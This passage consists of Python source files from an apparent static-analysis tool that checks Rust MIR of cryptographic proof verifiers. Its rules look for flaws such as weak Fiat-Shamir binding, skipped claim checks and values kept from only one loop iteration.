                    out.append((local, d, uses_out[0]))
                break
    return out


FIRST_WINS = ("get_or_insert", "get_or_insert_with", "get_or_init", "get_or_insert_default")


def _loop_variant(b, blocks, local):
    """the local is computed, inside the given blocks, from what the loop's cursor hands out (`next`)."""
    seen, st = set(), [local]
    while st:
        l = st.pop()
        if l in seen:
            continue
        seen.add(l)
        for i in blocks:
            blk = b.blocks[i]
            for stt in blk["stmts"]:
                if stt["dst"]["l"] != l:
                    continue
                rv = stt["rv"]
                if rv.get("pl"):
                    st.append(rv["pl"]["l"])
                st.extend(o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move"))
            t = blk["term"]
            if t["k"] == "call" and t["dst"]["l"] == l:
                if (t.get("callee") or "").rsplit("::", 1)[-1] in ("next", "next_back"):
                    return True
                st.extend(a["pl"]["l"] for a in t["args"] if a["k"] in ("copy", "move"))
    return False


def first_value_only(g):
    """single-slot first-wins stores (`Option::get_or_insert(x)`, `get_or_insert_with(|| x)`, `OnceCell::get_or_init`)
    that sit in a loop and are offered a value that differs from iteration to iteration: it is computed, inside the
    loop, from what the loop's cursor hands out. A keyed `entry(k).or_insert(v)` is a group-by, not a single slot,
    and a slot filled lazily with a loop-invariant value (a cache) keeps nothing back: neither is meant."""
    from .meet import _natural_loops
    f = g.facts
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        loops = None
        for i, t in b.calls():
            c = t.get("callee") or ""
            nm = c.rsplit("::", 1)[-1]
            if nm not in FIRST_WINS or ("option::Option" not in c and "Cell" not in c and "Lock" not in c):
                continue
            if len(t["args"]) < 2 or t["args"][1]["k"] not in ("copy", "move"):
                continue
            if loops is None:
                loops = _natural_loops(b)
            inside = [blocks for (h, blocks) in loops if i in blocks]
            if not inside:
                continue
            blocks = max(inside, key=len)
            if _loop_variant(b, blocks, t["args"][1]["pl"]["l"]):
                loc = b.locals[t["args"][0]["pl"]["l"]] if t["args"][0]["k"] in ("copy", "move") else {}
                out.append((bid, i, t, loc.get("name") or nm))
    return out


FIRST_MATCH = ("find", "find_map", "rfind", "position", "rposition", "min_by", "min_by_key", "max_by", "max_by_key", "nth")
LCOMB_TERMS = ("FIELD", "data_structures::LinearCombination", "terms")


def first_match_only(ctx, g):
    """first-match adaptors over the terms of a linear combination whose result carries a coefficient (a scalar) that
    can reach the outcome. Asking whether some term has a property, or which label it has, carries no scalar and is
    not meant."""
    from .. import tables as T
    from ..flow import DATA, ALIAS
    f = g.facts
    if LCOMB_TERMS not in g.fwd:
        return []
    terms = None
    out = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            if (t.get("callee") or "").rsplit("::", 1)[-1] not in FIRST_MATCH or "iter" not in (t.get("callee") or "").lower():
                continue
            if not t["args"] or t["args"][0]["k"] not in ("copy", "move"):
                continue
            # the receiver is (a filtered / reversed view of) the terms vector itself, not merely something computed
            # from the terms
            from .lenguard import alias_roots
            if LCOMB_TERMS not in alias_roots(g, (bid, t["args"][0]["pl"]["l"]), (), ("filter", "skip", "skip_while", "peekable", "take_while", "step_by")):
                continue
            g.reach([("STATE", (bid, t["dst"]["l"]), ty) for ty in T.SCALARS], cut=ctx.sponge_cut(g), want=OUTCOME)
            if g.last_goal is not None:
                out.append((bid, i, t))
    return out


def run_last_value(rep, ctx, anchor, rule="R1L"):
    """one instance per verifier anchor: no per-iteration value survives only as the last one."""
    g = ctx.graph(anchor)
    f = ctx.facts
    loops = 0
    bad = []
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        if cyclic_blocks(b):
            loops += 1
        for local, d, u in last_value_only(g, bid):
            nm = b.locals[local].get("name") or "_%d" % local
            bad.append((nm, bid, local, d, u))
    first = first_value_only(g)
    for (bid, i, t, nm) in first:
        rep.add(rule, "%s:first-value:%s@%s" % (anchor.key, nm, short(bid)), False,
                "the single slot filled by `%s` at %s sits in a loop and is offered a value that differs from iteration to "
                "iteration: the first element's value is kept and used for every later element" % (
                    (t.get("callee") or "?").rsplit("::", 1)[-1], t["span"]), t["span"])
    for (bid, i, t) in first_match_only(ctx, g):
        rep.add(rule, "%s:first-match:%s@%s" % (anchor.key, (t.get("callee") or "?").rsplit("::", 1)[-1], short(bid)), False,
                "`%s` at %s picks the first matching term of an equation, and the coefficient it returns reaches the decision: "
                "a second matching term (another constant term) is never looked at" % ((t.get("callee") or "?").rsplit("::", 1)[-1], t["span"]),
                t["span"])
    if not bad:
        rep.add(rule, "%s:no-last-value-only" % anchor.key, True,
                "no value computed per loop iteration is carried out of the loop unused (%d bodies with loops examined)" % loops,
                anchor.body.span, nontrivial=loops > 0)
    for nm, bid, local, d, u in bad:
        b = f.bodies[bid]
        rep.add(rule, "%s:last-value:%s@%s" % (anchor.key, nm, short(bid)), False,
                "`%s` (%s) is computed inside the loop at %s, can reach the next iteration unused, and is used after the "
                "loop at %s: only the value of the last iteration takes part in the decision" % (
                    nm, b.locals[local]["ty"], where_of(f, bid, d), where_of(f, bid, u)), where_of(f, bid, d))
    return loops


# ---------------------------------------------------------------------------------------------------------
def bypass_of_block(b, blk):
    """a path that completes the unit of work the draw belongs to (one loop iteration if the draw is inside a loop,
    else the whole body up to its normal return) without passing the draw; refusals (aborts, `?`, Err) do not count.
    Returns the span of the block from which the bypass completes, or None."""
    succ = b.succ()
    div = b.diverging()
    refusing = set(div)
    for i, x in enumerate(b.blocks):
        t = x["term"]
        if t["k"] == "call" and (t.get("callee") or "").endswith("from_residual"):
            refusing.add(i)
        for st in x["stmts"]:
            rv = st["rv"]
            if rv.get("k") == "agg" and rv.get("adt") == "std::result::Result" and rv.get("variant") == "Err":
                refusing.add(i)
    cyc = cyclic_blocks(b)
    if blk in cyc:
        # innermost natural loop containing the draw: back edges x -> h with h dominating x
        pred = b.pred()
        best = None
        loops_by_head = {}
        for x in range(len(b.blocks)):
            for h in succ[x]:
                if not b.dominates(h, x):
                    continue
                body = {h, x}
                st = [x]
                while st:
                    y = st.pop()
                    if y == h:
                        continue
                    for z in pred[y]:
                        if z not in body:
                            body.add(z)
                            st.append(z)
                loops_by_head.setdefault(h, set()).update(body)
        # (a `continue` gives the loop a second back edge: all back edges to one header are one loop)
        for h, body in loops_by_head.items():
            if True:
                if blk in body and (best is None or len(body) < len(best[1])):
                    best = (h, body)
        if best is None:
            return None
        h, scc = best
        if h == blk:
            return None
        seen = set()
        st = [y for y in succ[h] if y in scc]
        while st:
            x = st.pop()
            if x in seen or x == blk or x in refusing or b.blocks[x]["cleanup"]:
                continue
            seen.add(x)
            for y in succ[x]:
                if y == h:
                    return b.blocks[x]["term"].get("span") or b.span
                if y in scc:
                    st.append(y)
        return None
    seen = set()
    st = [0]
    while st:
        x = st.pop()
        if x in seen or x == blk or x in refusing or b.blocks[x]["cleanup"]:
            continue
        seen.add(x)
        if b.blocks[x]["term"]["k"] == "return":
            return b.blocks[x]["term"].get("span") or b.span
        st.extend(succ[x])
    return None


