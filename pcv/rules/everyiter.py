"""R1d CONSUMED-EVERY-ITERATION: a claim element that a verifier loop extracts must be consumed (fed into the
computation that reaches the outcome) on every path to the next iteration.

For a payload local defined inside a loop (the element the loop's pattern binds, or a value looked up in the loop),
no path inside the loop may lead from its definition to the loop's back edge without passing a block that consumes
it. Early exits (`?`, `return`, panics) leave the loop and are not back edges. A `continue` that jumps over the
comparison of the claimed value lets that claim through unchecked for the inputs taking that path, while the
comparison is still present in the function (so plain liveness cannot see it).
"""
from ..engine import short, where_of
from ..flow import OUTCOME, payload_nodes
from .refusal import _scc_of
from .rng import cyclic_blocks


def def_and_use_blocks(b, local):
    """blocks where `local` is assigned, and blocks where it (or an exact copy / reference of it) is really used
    (read by anything but a plain move / reborrow)."""
    copies = {local}
    changed = True
    while changed:
        changed = False
        for blk in b.blocks:
            for st in blk["stmts"]:
                rv = st["rv"]
                k = rv.get("k")
                if st["dst"]["p"]:
                    continue
                src = None
                if k == "use" and rv["ops"][0]["k"] in ("copy", "move"):
                    src = rv["ops"][0]["pl"]
                elif k == "ref":
                    src = rv["pl"]
                if src is not None and src["l"] in copies and all(e == "*" for e in src["p"]) and st["dst"]["l"] not in copies:
                    copies.add(st["dst"]["l"])
                    changed = True
    defs, uses = set(), set()
    for i, blk in enumerate(b.blocks):
        for st in blk["stmts"]:
            rv = st["rv"]
            if st["dst"]["l"] == local and not st["dst"]["p"]:
                defs.add(i)
            k = rv.get("k")
            reads = []
            if k in ("ref", "discr", "rawptr"):
                reads = [rv["pl"]["l"]]
            else:
                reads = [o["pl"]["l"] for o in rv.get("ops", []) if o["k"] in ("copy", "move")]
            if any(r in copies for r in reads):
                plain = (k == "use" or k == "ref") and not st["dst"]["p"] and st["dst"]["l"] in copies
                if not plain:
                    uses.add(i)
        t = blk["term"]
        if t["k"] == "call":
            if any(a["k"] in ("copy", "move") and a["pl"]["l"] in copies for a in t["args"]):
                uses.add(i)
            if t["dst"]["l"] == local and not t["dst"]["p"]:
                defs.add(i)
        elif t["k"] in ("switch", "assert") and t["op"]["k"] in ("copy", "move") and t["op"]["pl"]["l"] in copies:
            uses.add(i)
    return defs, uses


def check_payload(g, node):
    """returns (applicable, ok, detail, where)."""
    f = g.facts
    bid, local = node
    b = f.bodies[bid]
    if "&mut" in b.locals[local]["ty"]:
        return False, True, "a mutable element reference (in-place update loop), not an extracted claim", None
    defs, uses = def_and_use_blocks(b, local)
    if not uses:
        return False, True, "never used (liveness is R1's business)", None
    cyc = cyclic_blocks(b)
    defs_in_loop = [d for d in defs if d in cyc]
    if not defs_in_loop:
        return False, True, "not defined inside a loop", None
    succ = b.succ()
    for d in defs_in_loop:
        scc = _scc_of(b, d)
        headers = [h for h in scc if all(b.dominates(h, x) for x in scc)]
        if not headers:
            continue
        h = headers[0]
        # walk inside the loop from the definition without entering a consuming block
        seen = set()
        st = [d] if d not in uses else []
        while st:
            x = st.pop()
            if x in seen:
                continue
            seen.add(x)
            for y in succ[x]:
                if y == h:
                    span = b.blocks[x]["term"].get("span")
                    return True, False, ("the next iteration can be reached from the extraction of the element without "
                                         "consuming it (back edge from the block at %s)" % span), span
                if y in scc and y not in uses and y not in seen:
                    st.append(y)
    return True, True, "consumed on every path to the next iteration", None


def run_values(rep, ctx, anchor, rule="R1d"):
    g = ctx.graph(anchor)
    idx = anchor.roles.get("values")
    if idx is None:
        return 0
    from .. import tables as T
    pl = payload_nodes(g, [(anchor.body.id, idx)], T.SCALARS)
    n = 0
    for node in sorted(pl, key=str):
        app, ok, detail, where = check_payload(g, node)
        if not app:
            continue
        n += 1
        b = ctx.facts.bodies[node[0]]
        nm = b.locals[node[1]].get("name") or "_%d" % node[1]
        rep.add(rule, "%s:values:%s@%s" % (anchor.key, nm, short(node[0])), ok,
                "claimed value `%s` in %s: %s" % (nm, short(node[0]), detail), where or b.span)
    return n
