"""R11 EXACT-FLOW: a value reaches a use through copies, moves, `?` / unwrap carriers, field projections and
parameter passing only - no arithmetic, no cast, no other call."""
from collections import deque

from ..flow import DATA, MOVE, OUTCOME
from . import lenguard as LG

CARRIERS = ("branch", "from_residual", "unwrap", "expect", "map_err", "clone", "into", "as_ref", "deref", "borrow",
            "ok_or", "copied", "cloned")


def origins(g, node, max_nodes=4000, stop=()):
    """walk backwards from `node` over exact edges only. Returns (sources, computed):
    sources  = set of pseudo sources reached: ("CALLRES", body, bb) / ("FIELD", adt, name) / parameter nodes with
               no further exact predecessor;
    computed = True if some predecessor edge is a computation (binop / cast / other call)."""
    rev = LG._rev(g)
    seen = {node}
    dq = deque([node])
    sources = set()
    computed = []
    while dq and len(seen) < max_nodes:
        n = dq.popleft()
        preds = rev.get(n, ())
        for (a, e) in preds:
            if e.kind != DATA:
                continue
            if isinstance(a, tuple) and a[0] == "CALLRES":
                t = g.facts.bodies[a[1]].blocks[a[2]]["term"]
                if (t.get("callee") or "") in stop:
                    sources.add(a)      # a named producer: its result is the origin, whatever it computes inside
                    continue
                nm = (t.get("callee") or "").rsplit("::", 1)[-1]
                if nm in CARRIERS and not g.facts.call_targets(t, g.ctx_adt):
                    continue      # the carrier's own inputs are followed through its argument edges
                if g.facts.call_targets(t, g.ctx_adt):
                    continue      # local call: followed through the callee's return place
                sources.add(a)
                continue
            if isinstance(a, tuple) and a[0] == "FIELD":
                if not a[1].startswith(("std::", "core::", "alloc::")):
                    # only the innermost named field of the place is the origin
                    named = [ce for ce in (e.chain or ()) if len(ce) > 3 and ce[2] and not ce[2].startswith(("std::", "core::", "alloc::"))]
                    if not named[1:]:
                        sources.add(a)
                continue
            if any(len(ce) > 3 and ce[2] and not ce[2].startswith(("std::", "core::", "alloc::")) for ce in (e.chain or ())):
                continue    # a field of a crate type was read here: the FIELD source above is the origin
            if stop and e.cs is not None and e.cs[0] == "out" and e.site is not None:
                t = g.facts.bodies[e.site[0]].blocks[e.site[1]]["term"]
                if (t.get("callee") or "") in stop:
                    continue            # do not descend into a named producer
            exact = e.op in (MOVE, "field", "hof") or (e.op == "foreign" and LG._is_result_edge(g, e)
                                                       and LG._callee_name(g, e) in CARRIERS)
            if not exact:
                if e.op in ("compute", "foreign", "shape", "discr"):
                    computed.append((a, e))
                continue
            if a not in seen:
                seen.add(a)
                dq.append(a)
    return sources, computed, seen
