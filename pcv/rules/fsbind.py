"""R-FS FIAT-SHAMIR BINDING: a group element of the proof that the verifier multiplies by a hash-derived challenge
must itself be an input of a challenge derivation.

In the IPA scheme challenges come from a hand-rolled random oracle (`digest::Digest`). If a prover message that is
randomised by a challenge is not hashed into it, the prover can choose the message after seeing the challenge (weak
Fiat-Shamir) and prove false claims. Scalars sent as final responses are not covered (they are legitimately not
hashed); only group-element fields of the proof are."""
from ..engine import short, where_of
from ..flow import DATA, ALIAS

MUL_NAMES = ("mul", "mul_assign", "mul_bigint")
ORACLE = "digest::Digest"


def run(rep, ctx, anchor, group_fields, rule="RFS"):
    """group_fields: [(adt, field, payload types)]. Returns number of digest sites."""
    g = ctx.graph(anchor)
    f = ctx.facts
    digests = []
    for bid in sorted(g.scope):
        for i, t in f.bodies[bid].calls():
            if t.get("callee_trait") == ORACLE:
                digests.append((bid, i, t))
    if not digests:
        return 0
    par = g.reach([("CALLRES", b, i) for (b, i, _) in digests], kinds=(DATA, ALIAS))
    RD = {st[0] for st in par}
    in_nodes = set()
    for (b, i, t) in digests:
        for a in t["args"]:
            if a["k"] in ("copy", "move"):
                in_nodes.add((b, a["pl"]["l"]))
    muls = []
    for bid in sorted(g.scope):
        for i, t in f.bodies[bid].calls():
            nm = (t.get("callee") or "").rsplit("::", 1)[-1]
            if nm in MUL_NAMES and len(t["args"]) == 2 and all(a["k"] in ("copy", "move") for a in t["args"]):
                muls.append((bid, i, t))
    # derivation sites: calls (of the oracle itself or of a local helper that reaches it) and what their result feeds
    oracle_bodies = {b for (b, _, _) in digests}
    deriv = []
    for bid in sorted(g.scope):
        for i, t in f.bodies[bid].calls():
            targets = [x for x in f.call_targets(t, g.ctx_adt) if x in g.scope]
            if t.get("callee_trait") == ORACLE or any(f.closure([x], g.ctx_adt) & oracle_bodies for x in targets):
                ins = {(bid, a["pl"]["l"]) for a in t["args"] if a["k"] in ("copy", "move")}
                d = t.get("dst")
                if d is None:
                    continue
                fed = {st[0] for st in g.reach([(bid, d["l"])], kinds=(DATA, ALIAS))}
                deriv.append((t["span"], ins, fed))
    cut = ctx.sponge_cut(g)
    for adt, fld, elem in group_fields:
        n = ("FIELD", adt, fld)
        name = "%s.%s" % (adt.rsplit("::", 1)[-1], fld)
        if n not in g.fwd:
            continue
        starts = [("STATE", n, t) for t in elem] if elem else [n]
        RA = {st[0] for st in g.reach(starts, cut=cut, kinds=(DATA, ALIAS))}
        hits = []
        for (bid, i, t) in muls:
            a0, a1 = [(bid, a["pl"]["l"]) for a in t["args"]]
            if a0 in RA and a1 in RD and a1 not in RA:
                hits.append(((bid, i), a1, t["span"]))
            elif a1 in RA and a0 in RD and a0 not in RA:
                hits.append(((bid, i), a0, t["span"]))
        if not hits:
            continue
        msites = {h[0] for h in hits}
        # what the element reaches *before* being randomised: flow through the randomising products is cut
        pre = {st[0] for st in g.reach(starts, kinds=(DATA, ALIAS), cut=lambda n_, e: e.site in msites)}
        bad = None
        for (site, c, span) in hits:
            if not any(c in fed and (ins & pre) for (_, ins, fed) in deriv):
                bad = span
                break
        rep.add(rule, "%s:fs-binding:%s" % (anchor.key, name), bad is None,
                ("%s is multiplied by hash-derived challenges at %d site(s); each such challenge comes from a derivation whose "
                 "input the element reaches before being randomised" % (name, len(hits)))
                if bad is None else
                ("%s is multiplied at %s by a hash-derived challenge none of whose derivations takes the element as input: "
                 "the prover can pick it after seeing the challenge" % (name, bad)), bad or hits[0][2])
    return len(digests)
