"""R1 INFLUENCE: a statement / proof / key component must be able to affect the verifier's outcome."""
from .. import tables as T
from ..engine import short, where_of
from ..flow import OUTCOME, payload_nodes


def _fmt_path(g, p, limit=60):
    names = [g.fmt_node(x[0]) for x in p]
    names = [short(n.split("#")[0]) + "#" + n.split("#")[1] if "#" in n else n for n in names]
    if len(names) > limit:
        names = names[:3] + ["... %d more ..." % (len(names) - 5)] + names[-2:]
    return " -> ".join(names)


def reach_from(ctx, g, starts, cut=None):
    par = g.reach(starts, cut=cut, want=OUTCOME)
    if g.last_goal is not None:
        return True, g.path(par, g.last_goal)
    return False, None


def component(ctx, anchor, comp, cut_sponge=False):
    """returns (ok, detail, where, n_sources)."""
    g = ctx.graph(anchor)
    f = ctx.facts
    cut = ctx.sponge_cut(g) if cut_sponge else None
    kind = comp[0]
    if kind == "param":
        role, elem = comp[1], comp[2]
        idx = anchor.roles.get(role)
        if idx is None or idx > anchor.body.arg_count:
            return False, "anchor has no parameter for role %s" % role, anchor.body.span, 0
        start = (anchor.body.id, idx)
        pname = anchor.body.locals[idx].get("name") or "_%d" % idx
        if len(comp) > 3 and comp[3]:
            # the parameter's own type (references stripped) is an element type too: `point: &P::Point`
            from ..flow import strip_refs
            elem = list(elem) + [strip_refs(anchor.body.locals[idx]["ty"])]
        pl = payload_nodes(g, [start], elem)
        if not pl:
            return (False, "parameter `%s` (%s): no element of it is ever extracted in %s or its callees" % (
                pname, role, short(anchor.body.id)), anchor.body.span, 0)
        ok, p = reach_from(ctx, g, list(pl.keys()), cut)
        if ok:
            return True, "%s: %s" % (pname, _fmt_path(g, p)), None, len(pl)
        names = ", ".join(sorted(g.fmt_node(n).split("#")[1] + " in " + short(n[0]) for n in pl))
        return (False, "parameter `%s` (%s): extracted element(s) [%s] cannot influence the verifier's outcome%s" % (
            pname, role, names, " with challenges held fixed" if cut_sponge else ""), where_of(f, list(pl)[0][0]), len(pl))
    if kind == "field":
        adt, fld = comp[1], comp[2]
        elem = comp[3] if len(comp) > 3 else None
        n = ("FIELD", adt, fld)
        starts = [n] if n in g.fwd else []
        if not starts:
            return False, "field %s.%s is never read by %s or its callees" % (adt, fld, short(anchor.body.id)), anchor.body.span, 0
        if elem:
            # only the payload (elements of the given type) inside the field counts, not its shape
            starts = [("STATE", n, t) for t in elem]
        ok, p = reach_from(ctx, g, starts, cut)
        if ok:
            return True, "%s.%s: %s" % (adt.rsplit("::", 1)[-1], fld, _fmt_path(g, p)), None, len(starts)
        return (False, "field %s.%s is read but %s cannot influence the verifier's outcome%s" % (
            adt, fld, "its payload" if elem else "it", " with challenges held fixed" if cut_sponge else ""),
            anchor.body.span, len(starts))
    if kind == "field_any":
        # equivalent representations of one key element (plain / prepared): one of them must be live
        last = None
        for fld in comp[2]:
            r = component(ctx, anchor, ("field", comp[1], fld), cut_sponge)
            if r[0]:
                return r
            last = r
        return (False, "none of the fields %s.{%s} can influence the verifier's outcome" % (comp[1], ",".join(comp[2])),
                last[2], last[3])
    if kind == "callres":
        callee = comp[1]
        sites = []
        for bid in g.scope:
            for i, t in f.bodies[bid].calls():
                if (t.get("callee") or "") == callee or (t.get("resolved") or "") == callee:
                    sites.append((bid, i))
        if not sites:
            return False, "no call to %s in %s or its callees" % (callee, short(anchor.body.id)), anchor.body.span, 0
        bad = []
        for bid, i in sites:
            ok, p = reach_from(ctx, g, [("CALLRES", bid, i)], cut)
            if not ok:
                bad.append((bid, i))
        if bad:
            return (False, "result of %s at %s cannot influence the verifier's outcome" % (
                callee, ", ".join(where_of(f, b, i) for b, i in bad)), where_of(f, *bad[0]), len(sites))
        return True, "%d call site(s) of %s all reach the outcome" % (len(sites), callee.rsplit("::", 1)[-1]), None, len(sites)
    raise ValueError(kind)


def statement_components(anchor):
    """C02 sources: claimed values, point / query set, commitments."""
    comps = []
    inherent = anchor.ctx_adt is None
    comps.append(("values", ("param", "values", T.SCALARS)))
    if inherent or anchor.method == "check":
        comps.append(("point", ("param", "point", T.POINTS + T.SCALARS, True)))
    else:
        comps.append(("point", ("param", "query_set", T.POINTS + T.SCALARS
                                + ["std::vec::Vec<%s>" % s for s in T.SCALARS])))
    for adt, fld in anchor.info["commitment"]:
        comps.append(("commitment:%s.%s" % (adt.rsplit("::", 1)[-1], fld), ("field", adt, fld)))
    return comps


def proof_components(anchor, facts=None):
    out = []
    listed = set()
    for ent in anchor.info["proof"]:
        adt, fld = ent[0], ent[1]
        listed.add((adt, fld))
        comp = ("field", adt, fld) + ((ent[2],) if len(ent) > 2 and ent[2] else ())
        out.append(("proof:%s.%s" % (adt.rsplit("::", 1)[-1], fld), comp))
    # every other field of the crate's own proof structs is a proof component too (a field added later
    # must be consumed by the verifier like the rest)
    if facts is not None:
        for adt in sorted({a for a, _ in listed}):
            d = facts.adts.get(adt)
            if not d or d["kind"] != "Struct":
                continue
            for fd in d["variants"][0]["fields"]:
                if (adt, fd["name"]) not in listed and not fd["ty"].startswith("std::marker::PhantomData"):
                    out.append(("proof:%s.%s" % (adt.rsplit("::", 1)[-1], fd["name"]), ("field", adt, fd["name"])))
    return out


def key_components(anchor):
    vk = anchor.info.get("vk")
    if isinstance(vk, dict):
        m = anchor.method
        vk = vk.get(m)
        if vk is None:
            # check_combinations / inherited defaults reach the batch / single verifier of the scheme
            vk = anchor.info["vk"].get("batch_check") if "batch_check" in anchor.info["vk"] else anchor.info["vk"].get("check")
    comps = []
    for adt, fld in (vk or []):
        if "|" in fld:
            comps.append(("vk:%s.%s" % (adt.rsplit("::", 1)[-1], fld), ("field_any", adt, fld.split("|"))))
        else:
            comps.append(("vk:%s.%s" % (adt.rsplit("::", 1)[-1], fld), ("field", adt, fld)))
    return comps
