"""R9 KEY-AGREEMENT: a value list shipped in the iteration order of one ordered container and re-attached by
zipping with the iteration of another ordered container: the two containers must be ordered by the same key type."""
import re

from ..engine import short
from . import lenguard as LG

# calls that yield the elements of their receiver in the receiver's iteration order
ORDER_PRESERVING = ("collect", "map", "filter_map", "copied", "cloned", "values", "keys", "into_values", "into_keys")

ORDERED = re.compile(r"std::collections::(BTreeMap|BTreeSet|btree_map::\w+|btree_set::\w+)<")


def split_args(s):
    """top-level generic arguments of `Path<...>`."""
    i = s.find("<")
    if i < 0 or not s.endswith(">"):
        return []
    inner = s[i + 1:-1]
    out = []
    depth = 0
    cur = ""
    for ch in inner:
        if ch in "<([":
            depth += 1
        elif ch in ">)]":
            depth -= 1
        if ch == "," and depth == 0:
            out.append(cur.strip())
            cur = ""
        else:
            cur += ch
    if cur.strip():
        out.append(cur.strip())
    return out


def ordered_keys(g, nodes):
    """key types of the ordered containers among the given nodes' local types."""
    from ..flow import strip_refs
    ks = set()
    for n in nodes:
        ty = g.node_ty(n)
        if not ty:
            continue
        s = strip_refs(ty)
        m = ORDERED.match(s)
        if m and m.group(1) in ("BTreeMap", "BTreeSet"):
            a = split_args(s)
            if a:
                ks.add(a[0])
    return ks


def nearest_ordered(g, node):
    """key types of the ordered containers nearest to `node` going backwards over order-preserving edges
    (the search does not continue behind an ordered container: that one fixes the iteration order)."""
    from collections import deque
    rev = LG._rev(g)
    seen = {node}
    dq = deque([node])
    keys = set()
    while dq:
        n = dq.popleft()
        k = ordered_keys(g, [n])
        if k:
            keys |= k
            continue
        for (a, e) in rev.get(n, ()):
            if a in seen or (isinstance(a, tuple) and a[0] == "CALLRES"):
                continue
            if LG._preserving(g, e, False, ORDER_PRESERVING):
                seen.add(a)
                dq.append(a)
    return keys, seen


def writer_keys(ctx, body, adt, field, ctx_adt=None):
    """key types ordering the container from which `adt.field` is filled in `body`'s scope."""
    from ..flow import Graph
    f = ctx.facts
    g = Graph(f, f.closure([body.id], ctx_adt), [body.id], ctx_adt)
    keys = set()
    sites = 0
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for blk in b.blocks:
            for st in blk["stmts"]:
                rv = st["rv"]
                if rv.get("k") == "agg" and rv.get("adt") == adt and field in (rv.get("fields") or []):
                    op = rv["ops"][rv["fields"].index(field)]
                    if op["k"] in ("copy", "move"):
                        sites += 1
                        k, _ = nearest_ordered(g, (bid, op["pl"]["l"]))
                        keys |= k
    return keys, sites


def reader_keys(ctx, body, adt, field, ctx_adt=None):
    """key types ordering the container that is zipped with (a view of) `adt.field` in `body`'s scope."""
    from ..flow import Graph
    f = ctx.facts
    g = Graph(f, f.closure([body.id], ctx_adt), [body.id], ctx_adt)
    keys = set()
    sites = []
    fld = ("FIELD", adt, field)
    for bid in sorted(g.scope):
        b = f.bodies[bid]
        for i, t in b.calls():
            if (t.get("callee") or "") not in LG.ZIP_CALLEES or len(t["args"]) != 2:
                continue
            sides = [LG.alias_roots(g, (bid, a["pl"]["l"]), extra=ORDER_PRESERVING) if a["k"] in ("copy", "move") else set() for a in t["args"]]
            hit = [fld in s for s in sides]
            if hit[0] == hit[1]:
                continue
            oa = t["args"][1] if hit[0] else t["args"][0]
            k, _ = nearest_ordered(g, (bid, oa["pl"]["l"]))
            keys |= k
            sites.append(t["span"])
    return keys, sites
