"""R12 (MIR): symbolic evaluation of the LinearCombination operator impls.

The effect of an operator on `self.terms` is computed by abstract interpretation of its MIR (and of the local
functions and closures it calls) over a small domain:

  scalars     sign x multiset of atoms {k (the scalar operand), c (coefficient of the element being visited)}
  labels      t (label of the visited element) | One
  elements    (scalar, label)              iterators  over other.terms (with an element map) / over self.terms mutably
  objects     self, self.terms, other, other.terms, tuples, closures with their captured values

Effects: APPEND(elem) - for every element (c, t) of other.terms the element `elem` is appended; PUSH(elem) - one
element appended; UPDATE(scalar) - every coefficient of self.terms replaced. References, clones, `into`, iterator
adaptors that keep elements (`iter`, `cloned`, `copied`) are transparent; `Neg::neg`, `Mul::mul`, `MulAssign` are
interpreted; calls of local functions (another operator impl, `LinearCombination::push`) are evaluated recursively
with their arguments. A value the domain cannot express is UNKNOWN; the result is *undecided* (fail closed) only if an
UNKNOWN reaches an effect or `self` / `self.terms` escapes into a call that is not understood. Surface syntax does not
matter."""

UNKNOWN = ("?",)
IDENT = ("elem", ("sc", 1, ("c",)), ("lab", "t"))
CAPACITY_ONLY = ("reserve", "reserve_exact", "shrink_to_fit", "shrink_to", "capacity", "len", "is_empty", "try_reserve")
TRANSPARENT = ("deref", "deref_mut", "as_ref", "as_mut", "borrow", "borrow_mut", "clone", "into", "to_owned", "cloned",
               "copied", "by_ref", "as_slice", "as_mut_slice", "from", "rev", "unwrap", "expect")


class Undecided(Exception):
    pass


def sc_mul(a, b):
    if a[0] != "sc" or b[0] != "sc":
        return UNKNOWN
    return ("sc", a[1] * b[1], tuple(sorted(a[2] + b[2])))


def sc_neg(a):
    if a[0] != "sc":
        return UNKNOWN
    return ("sc", -a[1], a[2])


def subst_elem(fn_elem, arg_elem):
    """compose: fn_elem is expressed over atoms c / t; replace them by the components of arg_elem."""
    if fn_elem == UNKNOWN or arg_elem == UNKNOWN or fn_elem[0] != "elem" or arg_elem[0] != "elem":
        return UNKNOWN
    coef, lab = fn_elem[1], fn_elem[2]
    ac, al = arg_elem[1], arg_elem[2]
    if coef[0] == "sc":
        out = ("sc", coef[1], tuple(a for a in coef[2] if a != "c"))
        for _ in range(coef[2].count("c")):
            out = sc_mul(out, ac)
        coef = out
    if lab == ("lab", "t"):
        lab = al
    return ("elem", coef, lab)


def has_unknown(v):
    if v == UNKNOWN:
        return True
    if isinstance(v, tuple):
        return any(has_unknown(x) for x in v if isinstance(x, (tuple, list)))
    if isinstance(v, list):
        return any(has_unknown(x) for x in v)
    return False


def mentions(v, atom):
    if isinstance(v, (tuple, list)):
        if len(v) == 3 and v[0] == "sc":
            return atom in v[2]
        if v == ("lab", atom):
            return True
        return any(mentions(x, atom) for x in v if isinstance(x, (tuple, list)))
    return False


class Eval:
    def __init__(self, facts):
        self.f = facts
        self.effects = []
        self.escapes = []
        self.depth = 0
        self.top_block = None     # block of the operator's own body that is being evaluated
        self.top_env = None

    # ------------------------------------------------------------------ places
    def read(self, env, pl):
        v = env.get(pl["l"])
        if v is None:
            return None
        after_dc = False
        for e in pl["p"]:
            if v is None:
                return None
            if e == "*":
                continue
            if isinstance(e, dict) and "dc" in e:
                after_dc = True
                continue
            if isinstance(e, dict) and "f" in e:
                idx, name = e["f"], e.get("n")
                if after_dc:
                    after_dc = False
                    if v[0] == "opt" and idx == 0:
                        v = v[1]
                        continue
                    return UNKNOWN
                if v[0] == "self" and name == "terms":
                    v = ("selfterms",)
                elif v[0] == "other" and name == "terms":
                    v = ("otherterms",)
                elif v[0] == "tuple" and idx < len(v[1]):
                    v = v[1][idx]
                elif v[0] == "elem" and idx in (0, 1):
                    v = v[1 + idx]
                elif v[0] == "mutelem" and idx == 0:
                    v = ("mutcoef",)
                elif v[0] == "mutelem" and idx == 1:
                    v = ("lab", "own")
                elif v[0] == "foundelem" and idx == 0:
                    v = ("foundcoef",)
                elif v[0] == "foundelem" and idx == 1:
                    v = ("lab", "t")
                else:
                    return UNKNOWN
                continue
            return UNKNOWN
        return v

    def operand(self, env, op):
        if op["k"] in ("copy", "move"):
            return self.read(env, op["pl"])
